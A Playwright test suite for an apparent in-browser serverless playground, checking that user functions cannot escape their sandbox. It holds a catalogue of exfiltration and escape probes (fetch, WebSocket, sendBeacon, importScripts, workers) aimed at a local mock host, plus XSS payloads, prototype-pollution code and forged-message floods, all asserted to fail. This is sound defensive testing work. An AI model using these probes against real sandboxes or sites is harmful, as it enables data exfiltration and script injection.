// What a stranger's function tries on the built app, and what it gets.
import { expect, test, type Frame, type Locator, type Page } from '@playwright/test'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { firstVisit, openFile, run, runButton, showTab, stolenLine, write } from './stage'

/** A host that is none of the page's business. */
interface Outside {
  readonly host: string
  /** Every connection counts, whatever is said on it. */
  readonly connections: () => number
  readonly requests: () => number
  readonly server: Server
}

async function openOutside(): Promise<Outside> {
  let connections = 0
  let requests = 0
  const server = createServer((_request, response) => {
    requests++
    response.setHeader('Access-Control-Allow-Origin', '*')
    response.setHeader('Content-Type', 'text/javascript')
    response.end('self.fromOutside = true')
  })
  server.on('connection', () => connections++)
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const host = `127.0.0.1:${(server.address() as AddressInfo).port}`
  return { host, connections: () => connections, requests: () => requests, server }
}

const invocations = (page: Page): Locator => page.getByRole('list', { name: 'Invocations', exact: true })

/** What the shown invocations printed, a line each. */
async function printed(page: Page): Promise<string[]> {
  const texts = await invocations(page).getByRole('paragraph').allTextContents()
  return texts
    .filter((text) => !/^\s*\+[\d:.]+\s*(START|END|REPORT)\s*RequestId: /.test(text))
    .map((text) => text.trim().replace(/^\+[\d:.]+\s*(INFO|WARN|ERROR|DEBUG)\s*/, ''))
}

/** Writes the consumer, runs, and waits until the logs say so much; the text must be new with this run. */
async function runFunction(page: Page, code: string, until: string): Promise<string[]> {
  await openFile(page, 'process-order')
  await write(page, /process-order/, code)
  await run(page, /Execution succeeded/)
  await showTab(page, 'Logs')
  await expect(invocations(page)).toContainText(until, { timeout: 15_000 })
  return printed(page)
}

/**
 * A function that tries each probe and prints `name: refused …`, or `name: REACHED …`. Its timer keeps the invocation
 * open, since a slow machine may take longer to refuse than a function may wait for nothing simulated.
 */
const prober = (probes: string): string => `
const probes = {${probes}}
exports.handler = async () => {
  const waiting = setInterval(() => undefined, 1)
  for (const [name, probe] of Object.entries(probes)) {
    try {
      const got = await probe()
      console.log(got === undefined ? name + ': refused, undefined' : name + ': REACHED ' + String(got))
    } catch (error) {
      console.log(name + ': refused, ' + error.message.slice(0, 200))
    }
  }
  clearInterval(waiting)
  console.log('all probes done')
}`

const probeNames = (probes: string): string[] => [...probes.matchAll(/^ {2}'(.+?)':/gm)].map((match) => match[1] ?? '')

/** Every probe has spoken, and none of them got anything. */
function expectRefusals(lines: readonly string[], probes: string): void {
  const verdicts = lines.filter((line) => /: (refused|REACHED)/.test(line))
  expect(verdicts.filter((line) => !line.includes(': refused'))).toEqual([])
  expect(verdicts.map((line) => line.slice(0, line.indexOf(': refused')))).toEqual(probeNames(probes))
}

/** Signs in a realm of ours that a function got at it: empty where all is well. */
function traces(): string[] {
  const found = Object.keys(Object.getPrototypeOf({}) as object)
  const ours = {
    stringify: JSON.stringify,
    then: Promise.prototype.then,
    map: Array.prototype.map,
    call: Function.call,
  }
  for (const [name, one] of Object.entries(ours)) {
    if (!Function.prototype.toString.call(one).includes('[native code]')) found.push(name)
  }
  return found
}

/** The page and its own workers are as they were. */
async function expectUntouched(page: Page): Promise<void> {
  expect(await page.evaluate(traces)).toEqual([])
  const own = page.workers().filter((worker) => !worker.url().startsWith('blob:null'))
  expect(own.length).toBeGreaterThan(0)
  for (const worker of own) expect(await worker.evaluate(traces)).toEqual([])
}

/** The one frame of the page. */
function sandboxFrame(page: Page): Frame {
  const [frame, ...more] = page.frames().filter((one) => one !== page.mainFrame())
  if (frame === undefined || more.length > 0) throw new Error('The page has not one frame.')
  return frame
}

const normal = (text: string): string => `exports.handler = async (event) => {
  const order = JSON.parse(event.Records[0].body)
  console.log(${JSON.stringify(text)}, order.orderId)
  return { success: true }
}`

/** The longest time for which the page did not draw, from now until it is asked. */
async function watchGap(page: Page): Promise<() => Promise<number>> {
  await page.evaluate(() => {
    const watch = { longest: 0, last: performance.now() }
    const frame = (): void => {
      const now = performance.now()
      watch.longest = Math.max(watch.longest, now - watch.last)
      watch.last = now
      requestAnimationFrame(frame)
    }
    requestAnimationFrame(frame)
    Object.assign(globalThis, { stepyardGap: watch })
  })
  return () => page.evaluate(() => (globalThis as unknown as { stepyardGap: { longest: number } }).stepyardGap.longest)
}

test.describe('what leads out of a function', () => {
  let outside: Outside
  test.beforeEach(async () => {
    outside = await openOutside()
  })
  test.afterEach(async () => {
    outside.server.closeAllConnections()
    await new Promise((resolve) => outside.server.close(resolve))
  })

  test('no way to the network is open, and the log says so for each', async ({ page, context }) => {
    const http = `http://${outside.host}/secret`
    const ws = `ws://${outside.host}/secret`
    const probes = `
  'fetch': () => fetch('${http}'),
  'fetch of the prototype': () => WorkerGlobalScope.prototype.fetch.call(self, '${http}'),
  'fetch, keepalive': () => self.constructor.__proto__.prototype.fetch.call(self, '${http}', { keepalive: true, mode: 'no-cors' }),
  'XMLHttpRequest': () => { const x = new XMLHttpRequest(); x.open('GET', '${http}', false); x.send(); return x.status },
  'WebSocket': () => new WebSocket('${ws}'),
  'WebSocketStream': () => new WebSocketStream('${ws}').opened,
  'WebTransport': () => new WebTransport('https://${outside.host}/').ready,
  'EventSource': () => new EventSource('${http}'),
  'RTCPeerConnection': () => new RTCPeerConnection({ iceServers: [{ urls: 'stun:${outside.host}' }] }),
  'sendBeacon': () => navigator.sendBeacon('${http}', 'secret'),
  'importScripts': () => importScripts('${http}') ?? 'loaded',
  'import()': () => import('${http}'),
  'import() in a data: module': () => import('data:text/javascript,import "${http}"'),
  'import in a blob: module': () => import(URL.createObjectURL(new Blob(['import "${http}"'], { type: 'text/javascript' }))),
  'Worker': () => new Worker('${http}'),
  'SharedWorker': () => new SharedWorker('${http}'),
  'nested Worker': () => new Worker(URL.createObjectURL(new Blob(['fetch("${http}")']))),
  'service worker': () => navigator.serviceWorker.register('${http}'),
  'Image': () => { new Image().src = '${http}'; return 'set' },
  'FontFace': () => new FontFace('f', 'url(${http})').load(),
  'location': () => { location.assign('${http}'); return 'left' },
  'open': () => open('${http}'),
`
    await firstVisit(page)
    const lines = await runFunction(page, prober(probes), 'all probes done')
    expectRefusals(lines, probes)
    expect(lines).toContain('fetch: refused, network access is not available in the playground')

    expect(outside.connections()).toBe(0)

    // The frame is ours; were it not, it could not leave either, and a run gets over the loss of it. Chromium opens
    // a connection before it asks the policy, but says nothing on it.
    const frame = sandboxFrame(page)
    await frame.evaluate((url) => {
      location.href = url
    }, http)
    const after = await runFunction(page, normal('back with order'), 'back with order 5001')
    expect(after.at(-1)).toBe('back with order 5001')
    await expect(invocations(page)).toContainText('Runtime.ExitError')
    expect(outside.requests()).toBe(0)

    // The host was there all the time: a tab of its own gets to it.
    await (await context.newPage()).goto(http)
    expect(outside.requests()).toBeGreaterThan(0)
  })

  test('the policy of the page: nothing from text becomes script, nothing leaves', async ({ page }) => {
    const http = `http://${outside.host}/secret`
    // What was smuggled into the page's own markup, and what a script of our origin tries to make of text.
    const smuggled =
      '<script src="./probe.js"></script><script>ran.push("inline")</script><img src=x onerror=ran.push(1)>'
    await page.route(/\/stepyard\/$/, async (route) => {
      const response = await route.fetch()
      await route.fulfill({ response, body: (await response.text()).replace('</body>', `${smuggled}</body>`) })
    })
    await page.route('**/probe.js', (route) =>
      route.fulfill({
        contentType: 'text/javascript',
        body: `
          self.ran = []
          self.refused = []
          self.violated = []
          addEventListener('securitypolicyviolation', (event) => violated.push(event.effectiveDirective))
          const attempt = (name, run) => { try { run() } catch { refused.push(name) } }
          attempt('eval', () => (0, eval)('ran.push("eval")'))
          attempt('new Function', () => new Function('ran.push("new Function")')())
          attempt('innerHTML', () => { document.body.innerHTML = '<img src=x onerror="ran.push(1)">' })
          attempt('foreign script', () => { document.createElement('script').src = '${http}' })
          attempt('foreign worker', () => new Worker('${http}'))
          attempt('timer', () => setTimeout('ran.push("setTimeout")'))
          const frame = document.createElement('iframe')
          frame.src = '${http}'
          document.body.append(frame)
          fetch('${http}').catch(() => refused.push('fetch'))
        `,
      }),
    )
    await firstVisit(page)
    const seen = (): Promise<Record<string, string[]>> =>
      page.evaluate(() => {
        const { ran, refused, violated } = globalThis as unknown as Record<string, string[]>
        return { ran: ran ?? ['no probe'], refused: refused ?? [], violated: violated ?? [] }
      })
    const policies = ['connect-src', 'frame-src', 'script-src-attr', 'script-src-elem', 'require-trusted-types-for']
    await expect.poll(async () => (await seen()).violated).toEqual(expect.arrayContaining(policies))
    const { ran, refused } = await seen()
    expect(ran).toEqual([])
    const texts = ['eval', 'new Function', 'innerHTML', 'foreign script', 'foreign worker', 'timer', 'fetch']
    expect(refused).toEqual(texts)
    expect(outside.requests()).toBe(0)
  })
})

test('a function reaches neither storage nor the page, and its frame has no rights but scripts', async ({ page }) => {
  const away = ['indexedDB', 'caches', 'localStorage', 'sessionStorage', 'BroadcastChannel', 'cookieStore'].concat([
    'parent',
    'top',
    'opener',
    'frames',
    'window',
    'document',
    'postMessage',
    'close',
    'Worker',
    'SharedWorker',
    'importScripts',
  ])
  const probes = `${away.map((name) => `\n  '${name}': () => inherited('${name}'),`).join('')}
  'files': () => navigator.storage.getDirectory(),
  'locks': () => navigator.locks.request('session', () => 'held'),
  'buckets': () => navigator.storageBuckets.open('b'),
`
  const inherited = `const inherited = (name) => {
  for (let one = globalThis; one !== null; one = Object.getPrototypeOf(one)) {
    const own = Object.getOwnPropertyDescriptor(one, name)
    if (own && (own.get ?? own.value) !== undefined) return name
  }
}\n`
  await firstVisit(page)
  expectRefusals(await runFunction(page, inherited + prober(probes), 'all probes done'), probes)

  await expect(page.locator('iframe')).toHaveCount(1)
  await expect(page.locator('iframe')).toHaveAttribute('sandbox', 'allow-scripts')
  await expect(page.locator('iframe')).not.toHaveAttribute('allow')
  const inFrame = await sandboxFrame(page).evaluate(() => {
    const tried = (look: () => unknown): string => {
      try {
        return String(look())
      } catch (error) {
        return (error as Error).name
      }
    }
    return {
      origin: self.origin,
      document: tried(() => parent.document),
      storage: tried(() => localStorage),
      cookie: tried(() => document.cookie),
      popup: tried(() => open('about:blank')),
    }
  })
  const refused = 'SecurityError'
  expect(inFrame).toEqual({ origin: 'null', document: refused, storage: refused, cookie: refused, popup: 'null' })
})

test('prototypes changed in a function stay in its worker', async ({ page }) => {
  await firstVisit(page)
  const changed = `exports.handler = async () => {
    Object.prototype.polluted = 1
    JSON.stringify = JSON.parse = () => '"forged"'
    Promise.prototype.then = () => undefined
    console.log('changed', [].polluted)
    Array.prototype.map = Function.prototype.call = () => 'forged'
    return JSON.parse === JSON.stringify
  }`
  const nested = `exports.handler = async () => {
    console.log('nested')
    return { ['__proto__']: { polluted: 1 }, constructor: { prototype: { polluted: 2 } } }
  }`
  await runFunction(page, changed, 'changed 1')
  await expect(invocations(page)).toContainText('Resulttrue')
  await expectUntouched(page)

  await runFunction(page, nested, 'nested')
  const result = page.getByRole('group', { name: 'result of the invocation' })
  await expect(result).toContainText(/__proto__: \{\s*polluted: 1/)
  await expectUntouched(page)

  expect(await runFunction(page, normal('normal again'), 'normal again')).toEqual(['normal again 5001'])
  await expect(invocations(page)).toContainText('success')
})

test('forged reports change nothing, and a flood ends the function, not the page', async ({ page }) => {
  await firstVisit(page)
  const forging = `${stolenLine}
exports.handler = async (event) => {
  await stealLine()
  const end = { kind: 'returned', now: Date.now() + 1, result: 'forged' }
  const body = (changes) => JSON.stringify({ lines: [], droppedLines: 0, calls: [], end, ...changes })
  const real = { t: 'report', id: last.id, turn: last.turn, body: body({}) }
  for (const changes of [
    { id: last.id + 1 }, { id: String(last.id) + ' ' }, { id: '__proto__' }, { turn: last.turn + 1 }, { turn: -1 },
    { t: 'result' }, { t: '__proto__' }, { body: undefined }, { body: { end } }, { body: '{' }, { body: body({ lines: 'x' }) },
    { body: body({ lines: [{ at: 0, level: 'FORGED', text: 'forged' }] }) }, { body: body({ droppedLines: -1 }) },
    { body: body({ calls: [{ call: 0 }] }) }, { body: body({ end: { ...end, now: 0 } }) },
    { body: body({ end: { kind: 'failed', now: end.now, error: 'forged', containerLost: true } }) },
    { body: '['.repeat(100000) }, { body: '"' + 'x'.repeat(20000000) + '"' },
  ]) line.postMessage({ ...real, ...changes })
  for (const odd of [null, 'report', 7, [], new Map(), new ArrayBuffer(8)]) line.postMessage(odd)
  console.log('sent', typeof self.postMessage)
  return { honest: true }
}`
  const lines = await runFunction(page, forging, 'sent')
  expect(lines).toEqual(['sent undefined'])
  await expect(invocations(page)).toContainText('honest')
  await expect(invocations(page)).not.toContainText('forged')
  await expect(
    page.getByRole('button', { name: /^order-processing-queue, queue, 0 visible, 0 in flight/ }),
  ).toBeVisible()

  const flooding = `${stolenLine}
exports.handler = async (event) => {
  if (event.Records[0].attributes.ApproximateReceiveCount !== '1') return console.log('calm')
  await stealLine()
  for (;;) line.postMessage({ t: 'report', id: 'x'.repeat(1000), turn: 1, body: '{}' })
}`
  const longestGap = await watchGap(page)
  await runFunction(page, flooding, 'calm')
  await expect(invocations(page)).toContainText('Function sent too many messages')
  expect(await longestGap()).toBeLessThan(500)
})

test('whatever a function throws or closes is an error of that invocation, never silence', async ({ page }) => {
  await firstVisit(page)
  // The message comes back after each failure, until the list is through.
  const throwing = (cases: readonly string[], end: string): string => `
const cases = [${cases.map((one) => `\n  () => { ${one} },`).join('')}
]
exports.handler = async (event) => {
  const attempt = cases[event.Records[0].attributes.ApproximateReceiveCount - 1]
  if (attempt === undefined) return console.log('${end}')
  return attempt()
}`
  const reports = invocations(page).getByRole('group', { name: 'error of the invocation' })
  const hostile = [
    'throw null',
    'throw new Proxy({}, { get() { throw 1 }, getPrototypeOf() { throw 2 }, has() { throw 3 } })',
    `throw Object.defineProperty(new Error(), 'message', { get() { throw new Error('again') } })`,
    'return { toJSON() { throw null } }',
    'self.close()',
  ]
  await runFunction(page, throwing(hostile, 'all thrown'), 'all thrown')
  await expect(reports).toHaveCount(hostile.length)
  const unreadable = 'there was a problem while retrieving one or more of its message, name, and stack'
  for (const i of [0, 1, 2]) await expect(reports.nth(i)).toContainText(unreadable)
  await expect(reports.nth(3)).toContainText('Runtime.MarshalError')
  await expect(reports.nth(4)).toContainText('self.close is not a function')

  // It spoils its own report; the page sees that none comes.
  await runFunction(page, throwing(['Object.prototype.toJSON = () => 1'], 'all spoilt'), 'all spoilt')
  await expect(reports).toHaveCount(1)
  await expect(reports).toContainText('Runtime.ExitError')
})

test('names, bodies and log lines with markup are text everywhere', async ({ page }) => {
  const dialogs: string[] = []
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message())
    void dialog.dismiss()
  })
  const image = '<img src=x onerror=alert(1)>'
  const script = '</script><svg onload=alert(2)>'
  const definition = {
    Comment: image,
    StartAt: image,
    States: {
      [image]: { Type: 'Pass', Next: script },
      [script]: {
        Type: 'Task',
        Resource: 'arn:aws:states:::sqs:sendMessage',
        Parameters: {
          QueueUrl: 'https://sqs.us-east-1.amazonaws.com/123456789012/order-processing-queue',
          MessageBody: `${image}${script}`,
        },
        End: true,
      },
    },
  }
  await firstVisit(page)
  await write(page, /order-workflow/, JSON.stringify(definition, null, 2))
  const code = `exports.handler = async (event) => {
    const [{ body, attributes }] = event.Records
    console.log(body)
    if (attributes.ApproximateReceiveCount === '1') throw new Error(body)
    return { [body]: body }
  }`
  const lines = await runFunction(page, code, 'Result')
  expect(lines.filter((line) => line === image + script)).toHaveLength(2)

  const expectNoElement = async (): Promise<void> => {
    await expect(page.locator('img, [onerror], [onload], svg svg')).toHaveCount(0)
  }
  await expectNoElement()
  await showTab(page, 'Queues')
  await page
    .getByRole('group', { name: /^Done, 1/ })
    .getByRole('button')
    .click()
  await expect(page.getByRole('region', { name: 'Message', exact: true })).toContainText(image + script)
  await expectNoElement()
  await showTab(page, 'History')
  await expect(page.getByRole('table', { name: 'History' })).toContainText(image)
  for (const name of [image, script]) {
    await page.getByRole('button', { name: `${name}, ` }).click()
    await expect(page.getByRole('complementary', { name: 'Inspector' })).toContainText(name)
    await expectNoElement()
  }
  expect(dialogs).toEqual([])
})

test('time is virtual: the date, a sleep of five minutes, and the timeout of 3 s', async ({ page }) => {
  const sleeping = (text: string): string => `exports.handler = async (event) => {
    if (event.Records[0].attributes.ApproximateReceiveCount !== '1') return console.log('${text} again')
    const from = Date.now()
    console.log(new Date().toISOString())
    await new Promise((resolve) => setTimeout(resolve, 3e5))
    console.log('${text}', Date.now() - from)
  }`
  await firstVisit(page)
  const short = await runFunction(page, sleeping('short'), 'short again')
  expect(short[0]).toMatch(/^2026-01-01T00:00:0\d\.\d{3}Z$/)
  await expect(invocations(page)).toContainText('Task timed out after 3.00 seconds')
  await expect(invocations(page).getByRole('button', { name: /process-order.*· 3 s/ })).toHaveCount(1)

  await openFile(page, 'order-processing-queue')
  const visibility = page.getByRole('textbox', { name: /^Visibility timeout/ })
  await visibility.fill('900')
  await openFile(page, 'process-order')
  await page.getByRole('button', { name: 'Settings', exact: true }).click()
  await page.getByRole('textbox', { name: 'Timeout' }).fill('900')
  const clickedAt = Date.now()
  const long = await runFunction(page, sleeping('long'), 'long 300000')
  expect(Date.now() - clickedAt).toBeLessThan(10_000)
  expect(long).toHaveLength(2)
  await expect(page.getByRole('timer', { name: 'Virtual time' })).toContainText('00:05:0')
})

test('a container stays warm within a run, starts cold in the next, and chance follows the seed', async ({
  page,
  browser,
}) => {
  const send = {
    Type: 'Task',
    Resource: 'arn:aws:states:::sqs:sendMessage',
    Parameters: {
      QueueUrl: 'https://sqs.us-east-1.amazonaws.com/123456789012/order-processing-queue',
      'MessageBody.$': '$.orderId',
    },
    ResultPath: null,
  }
  const definition = {
    StartAt: 'First',
    States: {
      First: { ...send, Next: 'Pause' },
      Pause: { Type: 'Wait', Seconds: 60, Next: 'Second' },
      Second: { ...send, End: true },
    },
  }
  const code = `let count = 0
  exports.handler = async (event) => {
    const chance = [Math.random(), crypto.randomUUID(), ...crypto.getRandomValues(new Uint8Array(4)), Date.now()]
    console.log('call', ++count, 'order', event.Records[0].body, chance.join(' '))
  }`
  const visit = async (tab: Page): Promise<string[]> => {
    await firstVisit(tab)
    await write(tab, /order-workflow/, JSON.stringify(definition, null, 2))
    return runFunction(tab, code, 'call 2 order 5001')
  }
  const first = await visit(page)
  expect(first).toHaveLength(2)
  expect(first[0]).toContain('call 1 order 5001')
  expect(first[0]?.slice('call 1'.length)).not.toBe(first[1]?.slice('call 2'.length))

  await page.getByRole('combobox', { name: 'Input' }).selectOption('order-1001')
  await runButton(page).click()
  await expect(invocations(page)).toContainText('call 2 order 1001')
  const [cold, ...rest] = await printed(page)
  expect(cold).toContain('call 1 order 1001')
  expect(rest).toHaveLength(1)

  const stranger = await browser.newPage()
  expect(await visit(stranger)).toEqual(first)
  await stranger.close()
})
